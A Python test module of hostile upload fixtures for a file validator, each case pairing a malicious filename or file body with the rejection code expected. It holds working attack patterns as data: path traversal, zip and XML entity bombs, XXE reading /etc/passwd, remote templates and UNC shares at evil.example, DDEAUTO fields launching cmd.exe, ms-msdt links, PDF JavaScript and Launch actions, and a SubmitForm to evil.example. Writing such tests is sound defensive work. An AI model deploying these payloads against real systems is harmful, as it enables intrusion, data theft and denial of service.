"""Hostile files: each with the sentence of what it tries, the name it comes under, its bytes, and the answer it must get."""

import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from PIL import Image

from gongkai.vault.tests.files import (
    DOCX_MAIN,
    FIRST,
    W,
    document,
    docx,
    docx_members,
    object_stream,
    overlapping_bomb,
    paragraph,
    pdf,
    picture,
    png_chunk,
    png_flood,
    relationships,
    steep_bomb,
    types,
    with_flag,
    with_parts,
    with_text,
    xlsx,
    zipped,
)

EXE = b"MZ\x90\x00" + bytes(56) + b"\x80\x00\x00\x00" + bytes(64) + b"PE\x00\x00" + bytes(200)
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
DOCUMENT_RELATIONSHIPS = "word/_rels/document.xml.rels"


@dataclass(frozen=True)
class Hostile:
    sentence: str
    name: str
    make: Callable[[], bytes]
    code: str


def named(sentence: str, name: str, code: str) -> Hostile:
    return Hostile(sentence, name, lambda: "正文".encode(), code)


NAMES = [
    named("a mark turns the name around, so that an exe reads as txt", "合同\u202etxt.exe.txt", "name_with_unseen_characters"),
    named("an isolate mark turns part of the name around", "合同\u2067txt.exe\u2069.txt", "name_with_unseen_characters"),
    named("a zero-width space makes two names look the same", "通\u200b知.txt", "name_with_unseen_characters"),
    named("a zero-width joiner between two characters", "通\u200d知.txt", "name_with_unseen_characters"),
    named("a byte order mark before the name", "\ufeff通知.txt", "name_with_unseen_characters"),
    named("a soft hyphen in the extension", "通知.t\u00adxt", "name_with_unseen_characters"),
    named("a Hangul filler as an empty name", "\u3164.txt", "name_with_unseen_characters"),
    named("tag letters of the last plane", "通知\U000e0041.txt", "name_with_unseen_characters"),
    named("half of a character pair", "通知\udc80.txt", "name_with_unseen_characters"),
    named("a line break for the log", "通知\nINFO ok.txt", "name_with_control_characters"),
    named("a null that cuts the name short", "通知.exe\x00.txt", "name_with_control_characters"),
    named("an escape sequence for the terminal", "\x1b[2J通知.txt", "name_with_control_characters"),
    named("a path that climbs", "../../etc/cron.d/x.txt", "name_with_path"),
    named("a path of the other system", "..\\..\\windows\\x.txt", "name_with_path"),
    named("a second stream behind the name", "通知.txt:secret.txt", "name_with_reserved_characters"),
    named("a name that is markup", "<img src=x onerror=alert(1)>.txt", "name_with_reserved_characters"),
    named("a name that is a pattern", "*.txt", "name_with_reserved_characters"),
    named("the name of a device", "CON.txt", "name_reserved"),
    named("the name of a device before more extensions", "com1.2024.txt", "name_reserved"),
    named("the name of a device before a space", "nul .txt", "name_reserved"),
    named("256 bytes", "公" * 84 + ".txt", "name_too_long"),
    named("a dot at the end, which some systems drop", "通知.txt.", "name_with_loose_ends"),
    named("a hidden file", ".htaccess.txt", "name_with_loose_ends"),
    named("nothing but the extension", ".txt", "name_with_loose_ends"),
    named("nothing at all", "", "name_missing"),
    named("nothing but spaces", " \u3000\u00a0", "name_missing"),
    named("a program behind a document's extension", "通知.pdf.exe", "kind_not_accepted"),
    named("a document's extension behind a program's", "通知.exe.txt", "name_with_two_extensions"),
    named("a program's extension pushed out of sight", "通知.exe                .txt", "name_with_two_extensions"),
    named("a page's extension before the last", "通知.html.txt", "name_with_two_extensions"),
    named("a web page", "通知.html", "kind_not_accepted"),
    named("a drawing that runs scripts", "图.svg", "kind_not_accepted"),
    named("an archive", "附件.zip", "kind_not_accepted"),
    named("no extension", "通知", "kind_not_accepted"),
]


def externally(kind: str, target: str) -> bytes:
    return docx(extra={DOCUMENT_RELATIONSHIPS: relationships((kind, target, "External"))})


def related(kind: str, part: str, data: bytes | str) -> bytes:
    return docx(extra={DOCUMENT_RELATIONSHIPS: relationships((kind, part)), f"word/{part}": data})


def member(name: str, data: bytes | str = "x", **facts: int) -> bytes:
    info = zipfile.ZipInfo(name)
    for fact, value in facts.items():
        setattr(info, fact, value)
    return zipped([*docx_members().items(), (info, data)])


def renamed_member(old: bytes, new: bytes) -> bytes:
    """A member under a name that no honest program writes."""
    assert len(old) == len(new)
    return member(old.decode()).replace(old, new)


def dtd(part: str = "word/document.xml", definition: str = '<!ENTITY a "ha">') -> bytes:
    return docx(extra={part: f"<!DOCTYPE w [{definition}]><w>&a;</w>"})


def laughs() -> bytes:
    levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))
    return docx(extra={"word/document.xml": f'<!DOCTYPE w [<!ENTITY l0 "ha">{levels}]>' + document(paragraph("&l9;"))})


def field(*pieces: str) -> str:
    inner = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{inner}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


def damaged(package: bytes) -> bytes:
    at = package.find(b"word/document.xml") + len("word/document.xml") + 5
    return package[:at] + bytes([package[at] ^ 0xFF]) + package[at + 1 :]


def macro_document() -> bytes:
    return with_text(docx(), "[Content_Types].xml", DOCX_MAIN, "application/vnd.ms-word.document.macroEnabled.main+xml")


def many_cells() -> bytes:
    rows = "".join(
        f'<row r="{row}">' + "".join(f'<c r="{column}{row}"/>' for column in "ABCDEFGHIJ") + "</row>" for row in range(1, 210_001)
    )
    sheet = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'
    return with_parts(xlsx(), {"xl/worksheets/sheet1.xml": sheet})


def bare_zip() -> bytes:
    return zipped([("readme.txt", "an archive"), ("a.exe", EXE)])


PACKAGES = [
    Hostile("77 KB that unpack to 76 MB, a thousandfold", "报告.docx", steep_bomb, "unpacks_too_large"),
    Hostile("77 KB that unpack to 1.4 GB, many members from the same bytes", "报告.docx", overlapping_bomb, "unpacks_too_large"),
    Hostile(
        "the same bomb as a workbook", "报表.xlsx", lambda: with_parts(xlsx(), {"xl/media/a.dat": bytes(80 << 20)}), "unpacks_too_large"
    ),
    Hostile("2,001 members", "报告.docx", lambda: docx(extra={f"word/media/{n}.dat": "" for n in range(2001)}), "too_many_members"),
    Hostile("a member that climbs out", "报告.docx", lambda: member("../../../tmp/evil.xml"), "strange_member"),
    Hostile("a member that climbs out halfway", "报告.docx", lambda: member("word/../../evil.xml"), "strange_member"),
    Hostile("a member with an absolute path", "报告.docx", lambda: member("/etc/passwd"), "strange_member"),
    Hostile("a member with a drive", "报告.docx", lambda: member("C:/evil.xml"), "strange_member"),
    Hostile("a member with backslashes", "报告.docx", lambda: renamed_member(b"word/evil.xml", b"..\\..\\vil.xml"), "strange_member"),
    Hostile(
        "a member whose name a null cuts short",
        "报告.docx",
        lambda: renamed_member(b"word/evil.xml", b"word/a\x00il.xml"),
        "strange_member",
    ),
    Hostile(
        "a member that is a symbolic link",
        "报告.docx",
        lambda: member("word/a.xml", "/etc/passwd", external_attr=0o120777 << 16),
        "strange_member",
    ),
    Hostile("a member that is a device", "报告.docx", lambda: member("word/a.xml", "", external_attr=0o020666 << 16), "strange_member"),
    Hostile("one document twice", "报告.docx", lambda: member("word/document.xml", document(paragraph("另一份"))), "duplicate_member"),
    Hostile("one document twice, in another case", "报告.docx", lambda: member("WORD/Document.xml", document("")), "duplicate_member"),
    Hostile("members that are encrypted", "报告.docx", lambda: with_flag(docx(), 1), "locked_package"),
    Hostile("members packed by an unusual method", "报告.docx", lambda: zipped(docx_members().items(), zipfile.ZIP_LZMA), "broken_package"),
    Hostile("a definition of entities", "报告.docx", dtd, "declares_entities"),
    Hostile("a billion laughs", "报告.docx", laughs, "declares_entities"),
    Hostile(
        "a file of the server as an entity",
        "报告.docx",
        lambda: dtd(definition='<!ENTITY a SYSTEM "file:///etc/passwd">'),
        "declares_entities",
    ),
    Hostile(
        "a definition fetched from outside",
        "报告.docx",
        lambda: docx(extra={"word/styles.xml": '<!DOCTYPE w SYSTEM "http://evil.example/x.dtd"><w/>'}),
        "declares_entities",
    ),
    Hostile("a definition in the relationships", "报告.docx", lambda: dtd(DOCUMENT_RELATIONSHIPS), "declares_entities"),
    Hostile(
        "a definition in another encoding",
        "报告.docx",
        lambda: docx(
            extra={"word/settings.xml": '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE w [<!ENTITY a "ha">]><w/>'.encode("utf-16")}
        ),
        "declares_entities",
    ),
    Hostile(
        "a definition in a part that is not called XML",
        "报告.docx",
        lambda: docx(extra={"word/settings.dat": '<!DOCTYPE w [<!ENTITY a "ha">]><w/>'}),
        "declares_entities",
    ),
    Hostile(
        "a definition in a drawing",
        "报表.xlsx",
        lambda: with_parts(xlsx(), {"xl/drawings/vmlDrawing1.vml": '<!DOCTYPE x [<!ENTITY a "ha">]><xml/>'}),
        "declares_entities",
    ),
    Hostile(
        "a definition in a workbook",
        "报表.xlsx",
        lambda: with_parts(xlsx(), {"xl/workbook.xml": '<!DOCTYPE x [<!ENTITY a "ha">]><workbook/>'}),
        "declares_entities",
    ),
    Hostile(
        "a template fetched from outside",
        "报告.docx",
        lambda: externally("attachedTemplate", "http://evil.example/x.dotm"),
        "reaches_outside",
    ),
    Hostile(
        "a template from a share, which hands over the password",
        "报告.docx",
        lambda: externally("attachedTemplate", "file://evil.example/share/x.dotm"),
        "reaches_outside",
    ),
    Hostile(
        "a picture fetched from outside, which tells who reads",
        "报告.docx",
        lambda: externally("image", "http://evil.example/x.png"),
        "reaches_outside",
    ),
    Hostile("an object fetched from outside", "报告.docx", lambda: externally("oleObject", "http://evil.example/x.rtf"), "carried_file"),
    Hostile("a frame from outside", "报告.docx", lambda: externally("frame", "http://evil.example/x.html"), "reaches_outside"),
    Hostile("a sub-document from outside", "报告.docx", lambda: externally("subDocument", "file:///C:/x.docx"), "reaches_outside"),
    Hostile("a link to a share", "报告.docx", lambda: externally("hyperlink", r"\\evil.example\share"), "reaches_outside"),
    Hostile("a link that is a script", "报告.docx", lambda: externally("hyperlink", "javascript:alert(1)"), "reaches_outside"),
    Hostile(
        "a link to a file of the reader",
        "报告.docx",
        lambda: externally("hyperlink", "file:///C:/Windows/System32/cmd.exe"),
        "reaches_outside",
    ),
    Hostile(
        "a link to a program of the system", "报告.docx", lambda: externally("hyperlink", "ms-msdt:/id PCWDiagnostic"), "reaches_outside"
    ),
    Hostile(
        "another workbook behind the cells",
        "报表.xlsx",
        lambda: with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        "carried_file",
    ),
    Hostile(
        "a data connection",
        "报表.xlsx",
        lambda: with_parts(xlsx(), {"xl/_rels/workbook.xml.rels": relationships(("connections", "connections.xml"))}),
        "reaches_outside",
    ),
    Hostile(
        "macros",
        "报告.docx",
        lambda: related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", COMPOUND),
        "macros",
    ),
    Hostile(
        "macros under another name",
        "报告.docx",
        lambda: related("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "fonts.dat", "x"),
        "macros",
    ),
    Hostile("a macro document under a plain name", "报告.docx", macro_document, "macros"),
    Hostile("macros of the old kind in a sheet", "报表.xlsx", lambda: with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    Hostile("a control", "报告.docx", lambda: docx(extra={"word/activeX/activeX1.xml": "<x/>"}), "macros"),
    Hostile("an embedded object", "报告.docx", lambda: related("oleObject", "embeddings/oleObject1.bin", COMPOUND), "carried_file"),
    Hostile("an embedded workbook", "报告.docx", lambda: related("package", "embeddings/sheet.xlsx", xlsx()), "carried_file"),
    Hostile("a page brought in as a part", "报告.docx", lambda: related("aFChunk", "part.dat", "<html/>"), "carried_file"),
    Hostile("an archive dressed as a picture", "报告.docx", lambda: docx(extra={"word/media/image1.png": bare_zip()}), "carried_file"),
    Hostile("a program dressed as a picture", "报告.docx", lambda: docx(extra={"word/media/image1.png": EXE}), "carried_file"),
    Hostile("an old document dressed as a picture", "报告.docx", lambda: docx(extra={"word/media/image1.png": COMPOUND}), "carried_file"),
    Hostile("a script among the parts", "报告.docx", lambda: docx(extra={"word/run.vbs": "x"}), "carried_file"),
    Hostile(
        "a field that starts a program", "报告.docx", lambda: docx(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), "acting_field"
    ),
    Hostile("the same field in pieces", "报告.docx", lambda: docx(field(" D", "DE", "AUTO cmd")), "acting_field"),
    Hostile("the same field in the header", "报告.docx", lambda: docx(header=field("DDE excel")), "acting_field"),
    Hostile(
        "a simple field that draws a file in",
        "报告.docx",
        lambda: docx('<w:p><w:fldSimple w:instr="INCLUDETEXT C:/x.txt"/></w:p>'),
        "acting_field",
    ),
    Hostile("XML nested 100,000 deep", "报告.docx", lambda: docx("<a>" * 100_000 + "</a>" * 100_000), "broken_package"),
    Hostile("XML that does not end", "报告.docx", lambda: docx(extra={"word/document.xml": "<w:document"}), "broken_package"),
    Hostile("a damaged member", "报告.docx", lambda: damaged(docx()), "broken_package"),
    Hostile("a cut package", "报告.docx", lambda: docx()[:-100], "broken_package"),
    Hostile("a program behind the package", "报告.docx", lambda: docx() + EXE, "two_files_in_one"),
    Hostile(
        "a page in the package's comment",
        "报告.docx",
        lambda: zipped(docx_members().items(), comment=b"<script>alert(1)</script>" * 20),
        "two_files_in_one",
    ),
    Hostile("another package before the package", "报告.docx", lambda: bare_zip() + docx(), "two_files_in_one"),
    Hostile(
        "a document with no document in it", "报告.docx", lambda: with_parts(docx(), {}, without=["word/document.xml"]), "not_this_kind"
    ),
    Hostile(
        "a document of another root",
        "报告.docx",
        lambda: docx(extra={"word/document.xml": f'<w:other xmlns:w="{W}"><w:body/></w:other>'}),
        "not_this_kind",
    ),
    Hostile("two million cells and more", "报表.xlsx", many_cells, "too_many_cells"),
]

LIES = [
    Hostile("a program called PDF", "通知.pdf", lambda: EXE, "not_this_kind"),
    Hostile("a web page called Word", "通知.docx", lambda: b"<html><script>alert(1)</script></html>", "not_this_kind"),
    Hostile("a web page called PDF", "通知.pdf", lambda: b"<html><script>alert(1)</script></html>", "not_this_kind"),
    Hostile("a drawing with a script called picture", "图.png", lambda: SVG, "not_this_kind"),
    Hostile("an animation called picture", "图.png", lambda: b"GIF89a" + bytes(100), "not_this_kind"),
    Hostile("one kind of picture under the other's name", "图.jpg", picture, "not_this_kind"),
    Hostile("an archive called Word", "通知.docx", lambda: zipped([("readme.txt", "an archive")]), "not_this_kind"),
    Hostile("a workbook called Word", "通知.docx", xlsx, "not_this_kind"),
    Hostile("a document called workbook", "报表.xlsx", docx, "not_this_kind"),
    Hostile(
        "a template called document",
        "通知.docx",
        lambda: docx(extra={"[Content_Types].xml": types(DOCX_MAIN.replace("document.main", "template.main"), "word/document.xml")}),
        "not_this_kind",
    ),
    Hostile("a locked or old document under the new name", "通知.docx", lambda: COMPOUND, "old_or_locked_office"),
    Hostile("an old workbook under the new name", "报表.xlsx", lambda: COMPOUND, "old_or_locked_office"),
    Hostile("rich text called Word", "通知.docx", lambda: rb"{\rtf1 \objdata}", "not_this_kind"),
    Hostile("a program called text", "说明.txt", lambda: EXE, "not_this_kind"),
    Hostile("a document called text", "说明.txt", docx, "not_this_kind"),
    Hostile("bytes without meaning called text", "说明.txt", lambda: zlib.compress(b"x" * 10_000, 9) * 3, "unknown_encoding"),
    Hostile("terminal commands called text", "说明.txt", lambda: b"\x1b]0;evil\x07", "unknown_encoding"),
    Hostile("an empty file", "空.txt", lambda: b"", "empty_file"),
    Hostile("an empty document", "空.docx", lambda: b"", "empty_file"),
]


def acting(action: str, *more: bytes) -> bytes:
    return pdf([b"/OpenAction " + action.encode(), *more])


def hidden_in_stream(inside: bytes, **how) -> bytes:
    """The action stands in an object stream, where a search of the bytes does not see it."""
    return pdf([b"/OpenAction 90 0 R", object_stream(inside, **how)])


SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LOCKED = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4 >> /ID [(a)(a)]" % (b"o" * 32, b"u" * 32)

PDFS = [
    Hostile("a script on opening", "通知.pdf", lambda: acting(SCRIPT), "active_pdf"),
    Hostile(
        "a script whose name is written in numbers",
        "通知.pdf",
        lambda: acting(SCRIPT.replace("/JavaScript", "/J#61v#61Script").replace("/JS", "/#4AS")),
        "active_pdf",
    ),
    Hostile("a script in an object stream", "通知.pdf", lambda: hidden_in_stream(SCRIPT.encode()), "active_pdf"),
    Hostile(
        "a script in an object stream that is not squeezed",
        "通知.pdf",
        lambda: hidden_in_stream(SCRIPT.encode(), more=b"", squeeze=bytes),
        "active_pdf",
    ),
    Hostile(
        "an object stream that cannot be looked into",
        "通知.pdf",
        lambda: hidden_in_stream(
            SCRIPT.encode(), more=b"/Filter [/ASCIIHexDecode /FlateDecode]", squeeze=lambda data: zlib.compress(data).hex().encode() + b">"
        ),
        "broken_pdf",
    ),
    Hostile(
        "an object stream under a name written in numbers",
        "通知.pdf",
        lambda: hidden_in_stream(SCRIPT.encode()).replace(b"/ObjStm", b"/Obj#53tm"),
        "active_pdf",
    ),
    Hostile("an object stream that unpacks to 300 MB", "通知.pdf", lambda: hidden_in_stream(b" " * (300 << 20)), "broken_pdf"),
    Hostile(
        "a script among the document's names",
        "通知.pdf",
        lambda: pdf([b"/Names << /JavaScript << /Names [(a) %d 0 R] >> >>" % FIRST, SCRIPT.encode()]),
        "active_pdf",
    ),
    Hostile("a script behind a page", "通知.pdf", lambda: pdf([b"/AA << /WC %d 0 R >>" % FIRST, SCRIPT.encode()]), "active_pdf"),
    Hostile("a program to be started", "通知.pdf", lambda: acting("<< /S /Launch /F (cmd.exe) >>"), "active_pdf"),
    Hostile("a form that sends itself away", "通知.pdf", lambda: acting("<< /S /SubmitForm /F (http://evil.example) >>"), "active_pdf"),
    Hostile("a form that draws data in", "通知.pdf", lambda: acting("<< /S /ImportData /F (x.fdf) >>"), "active_pdf"),
    Hostile("a jump into an embedded file", "通知.pdf", lambda: acting("<< /S /GoToE /D [0 /Fit] >>"), "active_pdf"),
    Hostile("a film with a script", "通知.pdf", lambda: acting("<< /S /Rendition /JS (x) >>"), "active_pdf"),
    Hostile("a film", "通知.pdf", lambda: pdf([b"/X %d 0 R" % FIRST, b"<< /Type /Annot /Subtype /RichMedia >>"]), "active_pdf"),
    Hostile(
        "a dynamic form",
        "通知.pdf",
        lambda: pdf([b"/AcroForm << /XFA %d 0 R /Fields [] >>" % FIRST, b"<< /Length 5 >>\nstream\n<xdp>\nendstream"]),
        "active_pdf",
    ),
    Hostile(
        "a file carried along",
        "通知.pdf",
        lambda: pdf(
            [
                b"/Names << /EmbeddedFiles << /Names [(a) %d 0 R] >> >>" % FIRST,
                b"<< /Type /Filespec /F (a.exe) /EF << /F %d 0 R >> >>" % (FIRST + 1),
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            ]
        ),
        "carried_file",
    ),
    Hostile(
        "a file carried along in an object stream",
        "通知.pdf",
        lambda: hidden_in_stream(b"<< /EmbeddedFiles << /Names [] >> >>"),
        "carried_file",
    ),
    Hostile("a password", "通知.pdf", lambda: pdf(trailer=LOCKED), "locked_pdf"),
    Hostile(
        "a password whose mark is written in numbers",
        "通知.pdf",
        lambda: pdf(trailer=LOCKED.replace(b"/Encrypt", b"/Encr#79pt")),
        "locked_pdf",
    ),
    Hostile("nothing behind the first line", "通知.pdf", lambda: b"%PDF-1.7\n%%EOF\n", "broken_pdf"),
    Hostile("a cut file", "通知.pdf", lambda: pdf()[:300], "broken_pdf"),
    Hostile("no page", "通知.pdf", lambda: pdf(pages=0), "broken_pdf"),
    Hostile("2,001 pages", "通知.pdf", lambda: pdf(pages=2001), "too_many_pages"),
    Hostile("an archive behind the pages", "通知.pdf", lambda: pdf() + bare_zip(), "two_files_in_one"),
    Hostile("a Word file behind the pages", "通知.pdf", lambda: pdf() + docx(), "two_files_in_one"),
    Hostile("a program behind the pages", "通知.pdf", lambda: pdf() + b"\n" + EXE * 10, "two_files_in_one"),
    Hostile("a web page before the pages", "通知.pdf", lambda: b"<html>" + pdf(), "not_this_kind"),
    Hostile("pages before a Word file", "报告.docx", lambda: pdf() + docx(), "not_this_kind"),
]


def jpeg_of(width: int, height: int) -> bytes:
    """The head of a real JPEG, its size written over."""
    data = bytearray(picture("JPEG"))
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(data)


def broken_png() -> bytes:
    data = bytearray(picture())
    at = data.find(b"IDAT") + 40
    data[at] ^= 0xFF
    return bytes(data)


def empty_png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", b"\0\0\0\1\0\0\0\1\x08\2\0\0\0") + png_chunk(b"IEND", b"")


def large_picture() -> bytes:
    made = io.BytesIO()
    Image.new("1", (8000, 5001)).save(made, "PNG")
    return made.getvalue()


PICTURES = [
    Hostile("50,000 by 50,000 pixels in 0.3 MB", "图.png", lambda: png_flood(50_000, 50_000), "too_many_pixels"),
    Hostile("a little more than 40 million pixels", "图.png", large_picture, "too_many_pixels"),
    Hostile("65,000 by 65,000 pixels in a small JPEG", "图.jpg", lambda: jpeg_of(65_000, 65_000), "too_many_pixels"),
    Hostile("a cut JPEG", "图.jpg", lambda: picture("JPEG")[:-1500], "broken_image"),
    Hostile("the head of a JPEG alone", "图.jpeg", lambda: b"\xff\xd8\xff\xe0", "broken_image"),
    Hostile("a cut PNG", "图.png", lambda: picture()[:-5000], "broken_image"),
    Hostile("a damaged PNG", "图.png", broken_png, "broken_image"),
    Hostile("a PNG without a picture", "图.png", empty_png, "broken_image"),
    Hostile("an archive behind the picture", "图.png", lambda: picture() + bare_zip(), "two_files_in_one"),
    Hostile("a Word file behind the picture", "图.jpg", lambda: picture("JPEG") + docx(), "two_files_in_one"),
]

ALL = [*NAMES, *PACKAGES, *LIES, *PDFS, *PICTURES]
